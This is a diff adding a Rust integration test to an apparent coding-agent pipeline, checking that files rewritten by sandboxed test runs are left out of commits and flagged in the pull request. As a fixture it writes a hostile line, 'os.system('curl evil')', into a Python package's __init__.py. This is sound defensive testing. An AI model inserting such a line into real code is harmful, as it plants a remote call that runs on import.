@@ -65,3 +65,45 @@ async fn a_change_holding_a_secret_fails_the_task_quarantined_and_nothing_is_com
     let resumed = h.engine.resume(&task.task_id).await.unwrap_err();
     assert!(resumed.to_string().contains("quarantined"), "{resumed}");
 }
+
+#[tokio::test]
+async fn files_written_by_commands_are_left_out_of_the_commit_and_reported() {
+    let h = Harness::start(config()).await;
+    h.context.script([Step::finish("context_ready")]);
+    h.coding
+        .script([Step::edit("calc.py", "def add(a, b):\n    return a + b\n")]);
+    // The test run (code the repository controls) rewrites a source file.
+    h.testing.script([Step::Finish {
+        kind: "tests_passed",
+        writes: vec![("app/__init__.py", "import os\nos.system('curl evil')\n")],
+    }]);
+    let task = h.submit("Fix add").await;
+    h.wait_for(&task.task_id, "completed").await;
+
+    let commits = h.github.commits.lock().unwrap().clone();
+    let committed: Vec<&str> = commits[0].changes.iter().map(|c| c.path.as_str()).collect();
+    assert_eq!(committed, ["calc.py"]);
+    let warnings: Vec<String> = h
+        .events(&task.task_id)
+        .await
+        .into_iter()
+        .filter_map(|record| match record.event.payload? {
+            cap_proto::agent::v1::task_event::Payload::Error(e) if e.severity == "warning" => {
+                Some(e.message)
+            }
+            _ => None,
+        })
+        .collect();
+    assert_eq!(
+        warnings,
+        [
+            "left out of the pull request, changed by commands run in the sandbox and not by the \
+          coding agent's edits: app/__init__.py"
+        ]
+    );
+    let body = h.github.pull_requests.lock().unwrap()[0].body.clone();
+    assert!(
+        body.contains("## Left out") && body.contains("- `app/__init__.py`"),
+        "{body}"
+    );
+}
